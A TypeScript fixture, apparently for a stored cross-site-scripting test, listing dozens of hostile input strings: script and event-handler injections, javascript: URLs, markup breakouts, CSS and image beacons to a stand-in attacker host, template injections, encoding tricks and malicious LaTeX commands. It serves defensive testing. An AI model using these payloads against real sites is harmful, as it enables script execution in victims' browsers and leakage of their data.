/** The act of a text that gets to run: noticed by the journey, whatever the page does with the text. */
const act = 'top.hostileTextRan=1';
/** A host that doesn't exist; a page of ours that calls it was made to by a hostile text. */
export const foreignHost = 'penyerang.example';
const address = `https://${foreignHost}/x`;

const markup = [
  `<script>${act}</script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script src=${address}.js></script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script\n>${act}</script\n>`,
  `"><script>${act}</script>`,
  `'><img src=x onerror=${act}>`,
  `<img src=x onerror=alert(1)>`,
  `<img src=${address}.png>`,
  `<img srcset="${address}.png 1x">`,
  `<img/src=x/onerror=${act}>`,
  `<img src="x\`onerror=${act}">`,
  `<svg onload=${act}>`,
  `<svg/onload=alert(1)//`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${act} />#x"></svg>`,
  `<svg><a href="javascript:${act}"><text y=20>klik</text></a></svg>`,
  `<math><mtext><img src=x onerror=${act}></mtext></math>`,
  `<math href="javascript:${act}">klik</math>`,
  `<body onload=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=alert(1)>`,
  `<details open ontoggle=${act}>buka</details>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}>`,
  `<marquee onstart=${act}>jalan</marquee>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<object data="data:text/html,<script>${act}</script>"></object>`,
  `<embed src="javascript:${act}">`,
  `<form action="javascript:${act}"><button>kirim</button></form>`,
  `<button formaction="javascript:${act}">tekan</button>`,
  `<a href="javascript:${act}">klik</a>`,
  `<a href="JaVaScRiPt&colon;${act}">klik</a>`,
  `<a href="java\tscript:${act}">klik</a>`,
  `<a href="data:text/html,<script>${act}</script>">klik</a>`,
  `[klik](javascript:${act})`,
  `![x](${address}.png"onerror="${act})`,
  `javascript:${act}`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href=${address}/>`,
  `<portal src=${address}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<!--><img src=x onerror=${act}>-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `</textarea><img src=x onerror=${act}>`,
  `</title><script>${act}</script>`,
  `</option></select><img src=x onerror=${act}>`,
  `"onmouseover="${act}" autofocus onfocus="${act}`,
  `' onclick='${act}' x='`,
];

const styles = [
  `<style>@import '${address}.css';</style>`,
  `<style>*{background:url(${address})}</style>`,
  `<link rel=stylesheet href=${address}.css>`,
  `<div style="position:fixed;inset:0;background:url(${address})">`,
  `" style="background:url(${address});x:expression(${act})`,
  `};*{background:url(${address})}`,
];

const templates = [
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${act}>"}}}`,
];

const encodings = [
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#x3c;img src=x onerror=${act}&#x3e;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `＜script＞${act}＜/script＞`,
  `\u202e<script>${act}</script>`,
  `<\u200bscript>${act}</script>`,
  `x\u2028<img src=x onerror=${act}>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${act} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${act}//>`,
];

const formulas = [
  String.raw`$\href{javascript:${act}}{x}$`,
  String.raw`$\href{JaVaScRiPt:${act}}{\text{klik}}$`,
  String.raw`$\href{data:text/html,<script>${act}</script>}{x}$`,
  String.raw`$\url{javascript:${act}}$`,
  String.raw`$\htmlData{x="><img src=x onerror=${act}>}{y}$`,
  String.raw`$\htmlId{root}{x}$`,
  String.raw`$\htmlClass{mantine-Modal-root}{x}$`,
  String.raw`$\htmlStyle{position:fixed;background:url(${address})}{x}$`,
  String.raw`$\includegraphics[alt=x]{${address}.png}$`,
  String.raw`$\text{<img src=x onerror=${act}>}$`,
  String.raw`$\text{</math><script>${act}</script>}$`,
  String.raw`$\color{red;background:url(${address})}x$`,
  String.raw`$\fcolorbox{"onclick="${act}}{white}{x}$`,
  String.raw`$\operatorname{<svg onload=${act}>}$`,
  String.raw`$$\tag{<script>${act}</script>} x$$`,
  String.raw`$\begin{array}{"><img src=x onerror=${act}>}x\end{array}$`,
  String.raw`$\newcommand{\x}{\href{javascript:${act}}{x}}\x$`,
  String.raw`$\def\x{\x\x}\x$`,
];

/** Texts that try to become something other than text (s15-stored-xss.spec.ts). */
export const hostileTexts: readonly string[] = [...markup, ...styles, ...templates, ...encodings, ...formulas];
